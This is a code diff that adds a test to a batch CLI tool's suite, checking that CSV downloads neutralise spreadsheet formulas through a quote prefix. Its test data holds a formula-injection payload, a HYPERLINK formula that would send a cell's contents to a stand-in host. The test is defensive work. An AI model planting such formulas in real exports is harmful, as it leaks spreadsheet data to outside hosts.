@@ -1,5 +1,6 @@
 """`outlast batch`, typed by a user beside a real stack."""
 
+import csv
 import json
 from pathlib import Path
 from typing import Any
@@ -37,6 +38,34 @@ async def test_a_file_is_carried_out_and_its_results_are_saved(shell: Shell) -> 
     assert after[0]["id"] == listed[0]["id"]
     anew = await shell.outlast(*given, "--again", "--json")
     assert json.loads(anew.out)["id"] != listed[0]["id"]
+
+
+async def test_cells_that_a_spreadsheet_would_compute_are_text_in_downloads(
+    shell: Shell, api: httpx.AsyncClient
+) -> None:
+    formula = '=HYPERLINK("https://example.com/?"&A1)'
+    items = lines(
+        {"key": formula, "arguments": {"number": -5}},
+        {"key": "-5", "arguments": {"number": 1, "label": formula, "fails_with": "payment"}},
+    )
+    ran = await shell.outlast("batch", "run", "double", "-", "-o", "out.csv", typed=items)
+    batch_id = next(word for word in ran.said.split() if word.startswith("batch-"))
+    with (shell.folder / "out.csv").open(newline="") as file:
+        saved = {row["key"]: row for row in csv.DictReader(file)}
+    assert saved.keys() == {f"'{formula}", "-5"}
+    assert saved["-5"]["error_message"] == f"'{formula} fails."
+    assert json.loads(saved[f"'{formula}"]["result"]) == {"doubled": -10}
+
+    async def printed(*options: str) -> str:
+        return (await shell.outlast("batch", "results", batch_id, "--csv", *options)).out
+
+    path = f"/v1/batches/{batch_id}/results"
+    safe = (await api.get(path, params={"format": "csv", "csv_safe": "true"})).text
+    plain = (await api.get(path, params={"format": "csv"})).text
+    assert "'=HYPERLINK" in safe
+    assert "'=HYPERLINK" not in plain
+    assert (await printed()).splitlines() == safe.splitlines()
+    assert (await printed("--no-csv-safe")).splitlines() == plain.splitlines()
 
 
 async def test_lines_that_do_not_fit_are_told(shell: Shell) -> None:
